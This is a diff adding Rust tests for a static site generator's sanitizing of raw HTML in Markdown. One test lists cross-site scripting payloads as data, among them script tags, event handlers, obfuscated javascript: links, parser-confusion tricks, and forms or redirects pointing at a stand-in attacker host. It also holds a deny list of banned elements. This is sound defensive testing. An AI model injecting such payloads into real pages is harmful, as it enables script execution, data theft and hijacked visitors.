@@ -1,1 +1,113 @@
-//! 
+//! Raw HTML in Markdown: what text can use stays, what could run does not.
+
+use crate::harness::Site;
+use crate::html::Html;
+
+fn built(markdown: &str) -> Html {
+    let site = Site::themed().file("content/a.md", markdown).file("content/b.md", "").file("content/p.jpg", "x");
+    site.build();
+    site.html("a/index.html")
+}
+
+#[test]
+fn what_text_can_use_stays() {
+    let page = built("<details><summary>More</summary>\n\n*Text* with <kbd>Esc</kbd>, H<sub>2</sub>O.\n\n</details>\n");
+    assert_eq!(page.named("summary").count(), 1);
+    assert_eq!(page.first("kbd").text, "Esc");
+    let page = built("<figure id=\"door\" class=\"wide\"><img src=\"p.jpg\" alt=\"The door\"></figure>\n");
+    assert_eq!(page.first("img").get("src"), Some("/p.jpg"), "its address is one of the site's");
+    assert!(page.id("door").is_some_and(|figure| figure.is_of("wide")));
+}
+
+#[test]
+fn an_address_in_raw_html_is_a_link_like_any_other() {
+    assert_eq!(built("<a href=\"b.md\">b</a>\n").link("b"), "/b/");
+    assert_eq!(built("<a id=\"here\"></a>\n\n[x](#here)\n").link("x"), "#here");
+    let site = Site::themed().file("content/a.md", "text\n\n> more <a href=\"nothing.md\">b</a>\n");
+    site.check().only("link/broken").at("content/a.md", 3).column(8);
+}
+
+#[test]
+fn nothing_that_runs_loads_or_hides_is_published() {
+    for text in [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<p onclick=alert(1)>x</p>",
+        "<img src=x onerror=alert(1) alt=x>",
+        "<a href='javascript:alert(1)'>x</a>",
+        "<a href='java\tscript:alert(1)'>x</a>",
+        "<a href='&#106;avascript:alert(1)'>x</a>",
+        "<iframe src='https://evil.example'></iframe>",
+        "<object data='x.swf'></object><embed src='x.swf'>",
+        "<svg onload=alert(1)><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<style>*{display:none}</style>",
+        "<p style='position:fixed;inset:0'>x</p>",
+        "<form action='https://evil.example'><input name=card></form>",
+        "<base href='https://evil.example/'>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<link rel=stylesheet href='https://evil.example/x.css'>",
+        "<p>text <b onmouseover=alert(1)>bold</b></p>",
+        "- <b onmouseover=alert(1)>in a list</b>",
+        "## <b onmouseover=alert(1)>in a heading</b>",
+        "| <b onmouseover=alert(1)>in a table</b> |\n| - |",
+        "note[^1]\n\n[^1]: <b onmouseover=alert(1)>in a note</b>",
+        "<div\n onclick=alert(1)>over lines</div>",
+        "<!-- --!><script>alert(1)</script> -->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    ] {
+        let page = built(&format!("{text}\n"));
+        for element in page.all() {
+            let banned = [
+                "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "base", "meta", "link",
+            ];
+            assert!(!banned.contains(&element.name.as_str()), "{text} gives <{}>", element.name);
+            for (name, value) in &element.attributes {
+                let value: String = value.chars().filter(|c| !c.is_control()).collect();
+                assert!(!name.starts_with("on") && name != "style", "{text} gives {name}");
+                assert!(!value.to_lowercase().contains("javascript:"), "{text} gives {name}={value}");
+            }
+        }
+    }
+}
+
+#[test]
+fn the_author_is_told_what_is_left_out() {
+    let site =
+        Site::themed().file("content/a.md", "Text.\n\n<iframe src=\"x\"></iframe>\n\nA <p style=\"color:red\">b</p>\n");
+    site.check().are(
+        "content/a.md:3:1 warning content/unsafe-html\n\
+         content/a.md:5:3 warning content/unsafe-html",
+    );
+}
+
+#[test]
+fn an_open_tag_does_not_swallow_the_page() {
+    let site = Site::new("plain")
+        .file("content/a.md", "---\ntitle: A\n---\n<div><b>\n\ntext\n\n## Next\n\n</section></main>\n");
+    site.build();
+    let page = site.html("a/index.html");
+    assert_eq!(page.named("main").count(), 1);
+    assert!(page.id("next").is_some());
+    // The footer of the theme is still there, outside of what was left open.
+    let text = site.output("a/index.html");
+    let (open, close) = (text.matches("<b>").count(), text.matches("</b>").count());
+    assert_eq!(open, close, "{text}");
+    assert_eq!(text.matches("</main>").count(), 1, "{text}");
+}
+
+#[test]
+fn a_field_is_cleaned_too() {
+    let kind = "extends: page\ntemplate: note.html\nfields:\n  note: { type: markdown }\n  plain: { type: text }\n";
+    let site = Site::themed()
+        .kind("page", kind)
+        .template("note.html", "{{ page.fields.note | safe }}<p>{{ page.fields.plain }}</p>{{ page.title }}")
+        .file("content/a.md", "---\ntitle: '<b>T</b>'\nnote: '<b onclick=x>[b](b.md)</b> <script>x</script>'\nplain: <script>x</script>\n---\n")
+        .file("content/b.md", "");
+    site.build();
+    let page = site.html("a/index.html");
+    assert_eq!((page.named("script").count(), page.named("b").count()), (0, 1), "{}", site.output("a/index.html"));
+    assert_eq!(page.first("b").attributes.len(), 0);
+    assert_eq!(page.link("b"), "/b/");
+}
